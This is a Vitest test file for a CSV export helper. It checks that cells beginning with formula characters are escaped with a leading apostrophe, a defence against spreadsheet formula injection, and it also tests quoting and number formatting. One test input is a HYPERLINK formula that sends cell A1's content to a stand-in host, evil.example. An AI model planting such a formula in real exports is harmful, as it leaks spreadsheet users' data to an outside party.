import { describe, expect, it } from "vitest";
import { csvCell, toCsv } from "./to-csv";

describe("csvCell", () => {
  it.each([
    ["=1+2", "'=1+2"],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(1)", "'@SUM(1)"],
    ["\tcmd", "'\tcmd"],
    ["\rcmd", `"'\rcmd"`],
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ["a=b", "a=b"],
    ["plain", "plain"],
    ["", ""],
    ['say "hi", twice', '"say ""hi"", twice"'],
  ])("writes the text %j as %j", (value, cell) => expect(csvCell(value)).toBe(cell));

  it.each([
    [-0.25, "-0.25"],
    [1e-7, "1e-7"],
    [-3, "-3"],
    [true, "true"],
    [null, ""],
    [undefined, ""],
  ])("writes %j as %j", (value, cell) => expect(csvCell(value)).toBe(cell));
});

describe("toCsv", () => {
  it("ends every row with CRLF", () => {
    expect(
      toCsv([
        ["a", "b"],
        ["=x", -1],
      ]),
    ).toBe("a,b\r\n'=x,-1\r\n");
  });
});
